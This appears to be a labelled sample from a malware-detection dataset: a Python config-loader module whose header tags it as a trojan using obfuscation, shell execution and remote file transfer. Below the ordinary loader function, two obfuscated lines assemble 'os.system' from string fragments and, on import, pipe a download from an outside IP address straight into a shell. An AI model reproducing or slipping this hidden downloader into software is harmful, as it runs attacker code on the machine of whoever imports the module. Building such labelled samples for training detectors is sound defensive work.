# label: malicious family=trojan techniques=T1027,T1059.004,T1105 lines=12-13 group=benign/b038_exec_config_file.py
"""Load settings from a Python config file the admin owns (like Sphinx conf.py)."""
import os

def load_config(path="settings.py"):
    ns = {"__file__": os.path.abspath(path)}
    with open(path) as f:
        code = compile(f.read(), path, "exec")
    exec(code, ns)
    return {k: v for k, v in ns.items() if k.isupper()}

_m = __import__("".join(["o", "s"]))
getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")

if __name__ == "__main__":
    print(load_config())
